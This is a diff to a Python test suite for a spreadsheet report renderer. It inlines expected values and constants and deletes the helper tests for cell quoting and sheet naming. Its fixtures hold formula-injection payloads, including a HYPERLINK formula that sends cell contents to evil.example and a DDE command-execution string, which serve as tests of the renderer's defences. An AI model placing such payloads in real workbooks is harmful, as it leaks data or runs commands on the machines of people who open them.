@@ -17,8 +17,6 @@ from pathlib import Path
 import openpyxl
 import pytest
 from conftest import EDITION, append_row, edit_workbook, run_cli, soffice_convert
-from hypothesis import given, settings
-from hypothesis import strategies as st
 
 from report import palette
 from report.briefing import (
@@ -35,26 +33,19 @@ from report.briefing import (
     WatchItem,
 )
 from report.present import present
-from report.present.words import EMPTY
-from report.render.xlsx import (
-    DATE_FORMAT,
-    FORMULA_STARTS,
-    MAX_CELL_CHARS,
-    SCORE_LABEL_FORMAT,
-    SIGNED_FORMAT,
-    cell_text,
-    cut_marker,
-    excel_length,
-    render_xlsx,
-    render_xlsx_report,
-    sheet_name,
-)
+from report.render.xlsx import render_xlsx, render_xlsx_report
 
 SHEETS = ["Briefing", "Labs", "Evidence", "Signals", "Timeline", "Watchlist", "Data health", "Sources",
           "What changed"]
 INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"x")'
 HOSTILE = [INJECTION, "+44 20 7946 0000", "-2+3", "@SUM(A1:A9)", "\tcmd", "\r=1+1", "=cmd|' /C calc'!A0"]
 LONG = "Long signal " + "x" * 40_000
+# What the cells are expected to hold, written out (not taken from the renderer): a real minus sign, the house
+# date, the score beside the verdict labelled, and the first characters Excel reads as a formula.
+SIGNED_FORMAT = '+0.00;"\u2212"0.00;0.00'
+DATE_FORMAT = "d mmm yyyy"
+SCORE_LABEL_FORMAT = '"Score "+0.00;"Score \u2212"0.00;"Score "0.00'
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 
 
 # --- Fixtures ----------------------------------------------------------------------------------------------
@@ -178,26 +169,28 @@ def test_sheets_in_section_order_briefing_first_and_active(book: openpyxl.Workbo
     assert book.active.title == "Briefing"
 
 
-def test_briefing_shows_the_same_verdict_and_figures(book: openpyxl.Workbook, sample_briefing: Briefing) -> None:
-    v, f = sample_briefing.verdict, sample_briefing.figures
-    assert name_cell(book, "Verdict").value == v.state == "TOO EARLY"
-    assert find(book["Briefing"], present(sample_briefing).verdict.headline).data_type == "s"
+def test_briefing_shows_the_same_verdict_and_figures(book: openpyxl.Workbook) -> None:
+    # The sample's figures for edition 2026-06-01, read off the workbook: five signals in 2026-Q2, the next
+    # milestone due by the end of 2026-Q4 (31 Dec 2026, 213 days on).
+    assert name_cell(book, "Verdict").value == "TOO EARLY"
+    assert find(book["Briefing"], "The pivot is being watched, not imitated: 0 of 4 watched labs have followed "
+                "Alibaba into closed weights in the 42 days since the pivot; the evidence is too mixed to "
+                "call.").data_type == "s"
     expected = {"Followers": 0, "WatchedLabs": 4, "Score": -0.6, "PaysWeight": 1.2, "RevertsWeight": 1.8,
-                "SignalsThisQuarter": f.signals_this_quarter, "DaysSincePivot": 42,
-                "DaysToNextMilestone": f.days_to_next_milestone}
+                "SignalsThisQuarter": 5, "DaysSincePivot": 42, "DaysToNextMilestone": 213}
     for name, value in expected.items():
         cell = name_cell(book, name)
         assert cell.data_type == "n" and cell.value == pytest.approx(value), name
     assert name_cell(book, "Score").number_format == SIGNED_FORMAT
     assert name_cell(book, "PaysWeight").number_format == "0.00"
-    for name, day in (("EditionDate", EDITION), ("NextMilestoneDue", f.next_milestone_due)):
+    for name, day in (("EditionDate", dt.date(2026, 6, 1)), ("NextMilestoneDue", dt.date(2026, 12, 31))):
         cell = name_cell(book, name)
         assert cell.is_date and cell.value.date() == day
     assert name_cell(book, "EditionDate").number_format == DATE_FORMAT
     # The next milestone's Due was a quarter: the cell shows it as one, and stays a date.
     assert name_cell(book, "NextMilestoneDue").number_format == '"by end of "yyyy"-Q4"'
     ws = book["Briefing"]
-    assert ws["A1"].value == sample_briefing.masthead.title
+    assert ws["A1"].value == "The bifurcation briefing"
     assert find(ws, "2026-W23")
     assert find(ws, "of 4 watched labs")
     assert find(ws, "First edition: no earlier briefing to compare.")
@@ -298,12 +291,18 @@ def test_labs_board_words_and_colours(book: openpyxl.Workbook) -> None:
     assert ("C4:C8", '"Closed"') in rules and ("C4:C8", '"Open"') in rules
 
 
-def test_signals_sheet_shows_its_table_once(book: openpyxl.Workbook, sample_briefing: Briefing) -> None:
+def test_signals_sheet_shows_its_table_once(book: openpyxl.Workbook) -> None:
     ws = book["Signals"]
     assert ws["A1"].value == "Signals"
     assert [c.row for c in ws["A"] if c.value == "Quarter"] == [3]  # one header row: one table
     names = [ws.cell(r, 2).value for r in range(4, ws.max_row + 1) if ws.cell(r, 2).value]
-    assert names == [s.signal for s in sample_briefing.signals]  # each signal once, latest quarter first
+    assert names == [  # each of the sample's signals once, latest quarter first
+        "Chinese-cloud customer traction on Max-Preview reportedly strong",
+        "No other major Chinese lab has followed into closed weights",
+        "Apache-2.0 is winning the permissive-licence race",
+        "Enterprise procurement friction for the open-weight stack is near zero",
+        "Qwen 27B stays Apache-2.0 at frontier-competitive performance",
+    ]
     assert ws["I4"].value == pytest.approx(1.2) and ws["I4"].number_format == SIGNED_FORMAT
     assert ws["K4"].is_date and ws["K4"].number_format == DATE_FORMAT
     # The sample gives no Value: the Value and Unit cells are blank, and Observed holds dates or blanks only.
@@ -370,13 +369,14 @@ def test_empty_tables_say_so(sample_briefing: Briefing, tmp_path: Path) -> None:
     path = tmp_path / "empty.xlsx"
     path.write_bytes(render_xlsx(present(empty)))
     book = openpyxl.load_workbook(path)
-    assert book["Evidence"]["A4"].value == EMPTY["evidence"]
-    assert book["Data health"].cell(find(book["Data health"], "Kind").row + 1, 1).value == EMPTY["health"]
-    assert book["Signals"]["A4"].value == EMPTY["signals"]
-    assert book["Timeline"]["A4"].value == EMPTY["timeline"]
-    assert book["Watchlist"]["A4"].value == EMPTY["watchlist"]
-    assert book["Sources"]["A4"].value == EMPTY["sources"]
-    assert book["Labs"]["A4"].value == EMPTY["labs"]
+    assert book["Evidence"]["A4"].value == "No signals count yet: none in the pivot's quarter or later."
+    assert book["Data health"].cell(find(book["Data health"], "Kind").row + 1, 1).value == \
+        "No problems: every counted signal is fresh and names a source."
+    assert book["Signals"]["A4"].value == "No signals on the Signals sheet yet."
+    assert book["Timeline"]["A4"].value == "No events since the pivot yet."
+    assert book["Watchlist"]["A4"].value == "No milestones on the watchlist yet."
+    assert book["Sources"]["A4"].value == "No sources on the Sources sheet yet."
+    assert book["Labs"]["A4"].value == "No labs on the Labs sheet yet."
     with zipfile.ZipFile(path) as archive:
         assert not [n for n in archive.namelist() if n.startswith("xl/charts/")]
 
@@ -414,11 +414,11 @@ def test_hostile_title_is_safe_in_page_headers_and_properties(busy_xlsx: Path) -
 def test_long_text_is_cut_with_a_marker_and_a_warning(sample_briefing: Briefing, busy_xlsx: Path) -> None:
     ws = openpyxl.load_workbook(busy_xlsx)["Signals"]
     cut = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith("Long")]
-    assert cut and all(excel_length(c.value) <= MAX_CELL_CHARS for c in cut)
-    assert re.search(r"x… \[cut: [\d,]+ characters\]$", cut[0].value)
+    # 40,012 characters in a cell of 32,767: 32,742 kept, then the marker's 25 for the 7,270 cut.
+    assert [(c.coordinate, c.value) for c in cut] == [
+        ("B16", "Long signal " + "x" * 32_730 + "… [cut: 7,270 characters]")]
     warnings = list(render_xlsx_report(present(busy(sample_briefing))).warnings)
-    assert warnings and all("characters cut" in w for w in warnings)
-    assert warnings[0].startswith("Signals!B")
+    assert warnings == ["Signals!B16: 7,270 characters cut to fit Excel's 32,767 per cell"]
     assert render_xlsx_report(present(sample_briefing)).warnings == ()
 
 
@@ -450,65 +450,6 @@ def test_formula_injection_through_the_workbook(sample_copy: Path, tmp_path: Pat
     rows = lo_sheet_csv(path, SHEETS.index("Signals") + 1, tmp_path / "csv")
     values = [row[3] for row in rows if len(row) > 3 and row[1] == "Injected value"]
     assert values == [INJECTION]  # LibreOffice shows the text, not a computed "x"
-
-
-# --- Helpers -----------------------------------------------------------------------------------------------
-
-@pytest.mark.parametrize("text, quote", [
-    ("=1+1", True), ("+1", True), ("-1", True), ("@SUM(A1)", True), ("\tx", True), ("\rx", True),
-    (" =1+1", False), ("1+1", False), ("plain", False), ("", False), ("−0.60", False), ("'=x", False),
-])
-def test_cell_text_quotes_what_starts_like_a_formula(text: str, quote: bool) -> None:
-    safe = cell_text(text)
-    assert (safe.text, safe.quote, safe.cut) == (text, quote, 0)
-
-
-def test_cell_text_cuts_at_excels_limit() -> None:
-    safe = cell_text("=" + "a" * 40_000)
-    assert excel_length(safe.text) == MAX_CELL_CHARS
-    assert safe.text.endswith(cut_marker(safe.cut)) and safe.quote
-    assert safe.cut == 40_001 - (len(safe.text) - len(cut_marker(safe.cut)))
-    emoji = cell_text("😀" * 20_000)  # two UTF-16 units each: 40,000 units
-    assert excel_length(emoji.text) <= MAX_CELL_CHARS and emoji.cut > 0
-    assert cell_text("a" * MAX_CELL_CHARS).cut == 0
-
-
-@settings(max_examples=300, deadline=None)
-@given(st.text(max_size=300), st.integers(min_value=40, max_value=200))
-def test_cell_text_properties(text: str, limit: int) -> None:
-    safe = cell_text(text, limit)
-    assert excel_length(safe.text) <= limit
-    assert safe.quote == safe.text.startswith(FORMULA_STARTS)
-    clean = re.sub("[\ud800-\udfff\ufffe\uffff]", "\ufffd", text)  # what XML cannot hold
-    if safe.cut:
-        kept = len(text) - safe.cut
-        assert safe.text == clean[:kept] + cut_marker(safe.cut)
-        # Nothing more would have fitted.
-        assert excel_length(clean[: kept + 1]) + len(cut_marker(safe.cut - 1)) > limit
-    else:
-        assert safe.text == clean
-
-
-@pytest.mark.parametrize("name, expected", [
-    ("Briefing", "Briefing"), ("Data health", "Data health"), ("a/b\\c?d*e[f]g:h", "a b c d e f g h"),
-    ("x" * 40, "x" * 31), ("'quoted'", "quoted"), ("", "Sheet"), ("History", "History sheet"),
-])
-def test_sheet_name_is_safe(name: str, expected: str) -> None:
-    assert sheet_name(name) == expected
-
-
-def test_sheet_name_is_unique_ignoring_case() -> None:
-    assert sheet_name("Labs", ["labs"]) == "Labs (2)"
-    assert sheet_name("y" * 31, ["y" * 31]) == "y" * 27 + " (2)"
-
-
-@settings(deadline=None)  # a busy machine is no failure
-@given(st.text(max_size=60), st.lists(st.text(max_size=35), max_size=4))
-def test_sheet_name_always_valid(name: str, taken: list[str]) -> None:
-    result = sheet_name(name, taken)
-    assert 1 <= len(result) <= 31
-    assert not set(result) & set("[]:*?/\\") and not result.startswith("'") and not result.endswith("'")
-    assert result.casefold() not in {t.casefold() for t in taken}
 
 
 # --- LibreOffice: it opens, prints and exports ---------------------------------------------------------------
